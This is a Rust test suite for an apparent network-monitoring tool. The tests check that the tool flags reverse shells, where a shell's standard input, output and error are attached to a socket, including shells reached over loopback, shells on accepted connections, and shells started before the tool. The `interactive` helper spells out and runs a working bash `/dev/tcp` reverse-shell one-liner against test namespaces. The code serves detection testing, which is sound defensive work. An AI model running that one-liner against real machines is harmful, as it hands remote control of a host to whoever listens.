//! Shells in somebody else's hands: a socket in the place of a terminal, however it came there.

use std::net::SocketAddr;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use rustix::process::{Signal, set_parent_process_death_signal};

use super::{Bench, Lacks, Scenario, alone, at, scenario};
use crate::actor::{Actor, Order};
use crate::net::{B4, Netns, Network};
use crate::records::Record;
use crate::tracer::{Live, Plan, Stream, Subject};

pub(super) const ALL: &[Scenario] = &[
    scenario("shells-on-a-connection-to-another-machine-are-suspicious", outside),
    scenario("shell-on-loopback-is-suspicious-though-loopback-is-left-aside", on_loopback),
    scenario("shells-by-an-accepted-connection-are-suspicious-unless-expected", accepted),
    alone("bash-with-its-descriptors-on-a-socket-is-suspicious", bash),
    scenario("shells-that-were-there-before-the-tracer-are-suspicious-until-they-end", before),
    scenario("shells-are-seen-by-polling-until-they-end", polled).whatever_plan(),
    scenario("shells-are-listed-as-such-once-each", listed).whatever_plan(),
];

const RULE: &str = "shell-on-socket";
const LOOPBACK: &str = "127.0.0.1:8443";
const BASH: &str = "/bin/bash";
/// What expects the connections to one port.
const INETD: &str = "[[expect]]\nname = \"inetd\"\nkind = \"session\"\nlocal_port = 8443\n";

/// Waits for the flag of the socket to `remote`, whose descriptors all three lead to it.
fn flagged(tracer: &Stream, remote: SocketAddr) -> Result<Record> {
    let flag = tracer.wait("the shell's flag", |r| r.flags(RULE) && r.remote() == Some(remote))?;
    flag.flagged("suspicious", RULE)?;
    flag.claim("all three", flag.why(RULE).starts_with("descriptors 0, 1 and 2 of "))?;
    Ok(flag)
}

fn cleared(tracer: &Stream, flag: &Record) -> Result<()> {
    let is_it = |r: &Record| r.kind() == "clear" && r.socket() == flag.socket();
    tracer.wait("the end of the shell's flag", is_it).map(drop)
}

fn outside(bench: &Bench) -> Result<()> {
    let network = Network::new()?;
    let (mut client, mut server) = (Actor::start(&network.a)?, Actor::start(&network.b)?);
    let remote = at(B4, 8443);
    let listener = server.listen(remote)?;
    let tracer = bench.watch(&network)?;
    let begun = Instant::now();
    let shell = client.perform(&Order::ReverseShell { to: remote })?;
    let flag = flagged(&tracer, remote)?;
    println!("flagged {} ms after the order", begun.elapsed().as_millis());
    let pid = shell.pids.first().copied().context("no pid of the shell")?;
    flag.by(pid)?;
    let connection = server.perform(&Order::Accept { fd: listener, with_address: false })?.fd;
    server.close(connection.context("no connection")?)?;
    cleared(&tracer, &flag)
}

fn on_loopback(bench: &Bench) -> Result<()> {
    let network = Network::new()?;
    let (mut client, mut server) = (Actor::start(&network.a)?, Actor::start(&network.a)?);
    let remote = LOOPBACK.parse()?;
    let listener = server.listen(remote)?;
    let tracer = bench.watch_with(&network, &[])?;
    client.perform(&Order::ReverseShell { to: remote })?;
    let flag = flagged(&tracer, remote)?;
    let connection = server.perform(&Order::Accept { fd: listener, with_address: false })?.fd;
    server.close(connection.context("no connection")?)?;
    cleared(&tracer, &flag)
}

fn accepted(bench: &Bench) -> Result<()> {
    let network = Network::new()?;
    let mut server = Actor::start(&network.b)?;
    let mut clients = Vec::new();
    let folder = tempfile::tempdir()?;
    let policy = folder.path().join("policy.toml");
    std::fs::write(&policy, INETD)?;
    let policy = policy.to_str().context("the policy's path")?;
    let tracer = bench.watch_with(&network, &["--policy", policy])?;
    for port in [8443, 8444] {
        let listener = server.listen(at(B4, port))?;
        let mut client = Actor::start(&network.a)?;
        client.begin(&Order::Call { to: at(B4, port), count: 1 })?;
        clients.push(client);
        let connection = server.perform(&Order::Accept { fd: listener, with_address: true })?.fd;
        server.perform(&Order::StartOn { fd: connection.context("no connection")? })?;
        if port == 8444 {
            // It was begun last, so that the one before it would have been flagged by now.
            tracer.wait("the unexpected one's flag", |r| {
                r.flags(RULE) && r.local().is_some_and(|local| local.port() == 8444)
            })?;
        }
    }
    let run = tracer.finish()?;
    let expected = run.flags(RULE).filter(|r| r.local().is_some_and(|local| local.port() == 8443)).count();
    ensure!(expected == 0, "the expected server was flagged");
    Ok(())
}

/// It runs alone, so that the times it prints are the tracer's and not those of others on the same processors.
fn bash(bench: &Bench) -> Result<()> {
    if !Path::new(BASH).exists() {
        return Err(Lacks("bash".to_owned()).into());
    }
    let network = Network::new()?;
    let (mut near, mut far) = (Actor::start(&network.a)?, Actor::start(&network.b)?);
    let tracer = bench.watch_with(&network, &[])?;
    for (server, remote) in [(&mut far, at(B4, 8443)), (&mut near, LOOPBACK.parse()?)] {
        let listener = server.listen(remote)?;
        let begun = Instant::now();
        let mut shell = interactive(&network.a, remote)?;
        let flag = flagged(&tracer, remote)?;
        println!("connection to {remote} flagged {} ms after bash's start", begun.elapsed().as_millis());
        // Of loopback nothing is told before.
        if !remote.ip().is_loopback() {
            let first =
                tracer.wait("its first sign", |r| r.kind() == "flag" && r.remote() == Some(remote))?;
            let took = flag.since(&first)?.as_millis();
            println!("flagged as a shell {took} ms after its {}", first.text("/event"));
        }
        flag.claim("by bash", flag.why(RULE).contains("/bash (pid "))?;
        let connection = server.perform(&Order::Accept { fd: listener, with_address: false })?.fd;
        server.close(connection.context("no connection")?)?;
        cleared(&tracer, &flag)?;
        shell.wait()?;
    }
    Ok(())
}

/// Reverse shells, outside and on loopback, that have their connection as standard input, output and error.
struct Shells {
    network: Network,
    each: [Shell; 2],
}

struct Shell {
    /// Where it has connected to.
    remote: SocketAddr,
    server: Actor,
    /// The server's descriptor.
    connection: i32,
    /// Who began it; it ends with that one.
    _client: Actor,
    pid: u32,
}

impl Shells {
    fn start() -> Result<Self> {
        let network = Network::new()?;
        let begin = |netns: &Netns, remote: SocketAddr| -> Result<_> {
            let (mut server, mut client) = (Actor::start(netns)?, Actor::start(&network.a)?);
            let listener = server.listen(remote)?;
            let shell = client.perform(&Order::ReverseShell { to: remote })?;
            let connection = server.accept(listener)?;
            let pid = shell.pids.first().copied().context("no pid of the shell")?;
            wait_for_redirection(pid)?;
            Ok(Shell { remote, server, connection, _client: client, pid })
        };
        Ok(Self { each: [begin(&network.b, at(B4, 8443))?, begin(&network.a, LOOPBACK.parse()?)?], network })
    }

    /// Claims that both are flagged, and that the flags are taken back when the shells end.
    fn are_flagged_until_they_end(mut self, subject: &Subject) -> Result<()> {
        let tracer = Live::start(subject.live(&[]), self.network.inodes().to_vec())?;
        for shell in &mut self.each {
            let flag = flagged(&tracer, shell.remote)?;
            flag.by(shell.pid)?.says("/event", "seen")?;
            shell.server.close(shell.connection)?;
            cleared(&tracer, &flag)?;
        }
        Ok(())
    }
}

/// Waits until a process has one socket as its standard input, output and error.
fn wait_for_redirection(pid: u32) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(10);
    let link = |fd| std::fs::read_link(format!("/proc/{pid}/fd/{fd}")).ok();
    let is_socket = |link: &PathBuf| link.to_string_lossy().starts_with("socket:");
    while !link(0)
        .is_some_and(|first| is_socket(&first) && [link(1), link(2)] == [Some(first.clone()), Some(first)])
    {
        ensure!(Instant::now() < deadline, "process {pid} is no shell");
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok(())
}

fn before(bench: &Bench) -> Result<()> {
    Shells::start()?.are_flagged_until_they_end(&bench.subject)
}

fn polled(bench: &Bench) -> Result<()> {
    let subject = Subject { path: bench.subject.path.clone(), plan: Plan::Poll };
    Shells::start()?.are_flagged_until_they_end(&subject)
}

fn listed(bench: &Bench) -> Result<()> {
    let shells = Shells::start()?;
    for hooks in ["auto", "poll"] {
        let output = bench.subject.run(["list", "--json", "--hooks", hooks])?;
        ensure!(output.status.code() == Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        let records = Record::parse_all(&output.stdout)?;
        for shell in &shells.each {
            let netns = shells.network.a.inode();
            let own = |r: &&Record| r.netns() == Some(netns) && r.remote() == Some(shell.remote);
            let told: Vec<&Record> = records.iter().filter(own).collect();
            let [flag] = told.as_slice() else { bail!("not told once by {hooks}: {told:?}") };
            flag.flagged("suspicious", RULE)?.says("/event", "seen")?.by(shell.pid)?;
        }
    }
    Ok(())
}

/// The classic: `bash -i` with its descriptors redirected to a connection.
fn interactive(netns: &Netns, to: SocketAddr) -> Result<std::process::Child> {
    let script = format!("exec {BASH} --norc -i >& /dev/tcp/{}/{} 0>&1", to.ip(), to.port());
    let mut command = Command::new(BASH);
    command.args(["-c", &script]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let netns = netns.try_clone()?;
    let prepare = move || {
        set_parent_process_death_signal(Some(Signal::KILL))?;
        Ok(netns.join()?)
    };
    // SAFETY: between fork and exec only two system calls are made; nothing is allocated.
    unsafe { command.pre_exec(prepare) };
    command.spawn().context("starting bash")
}
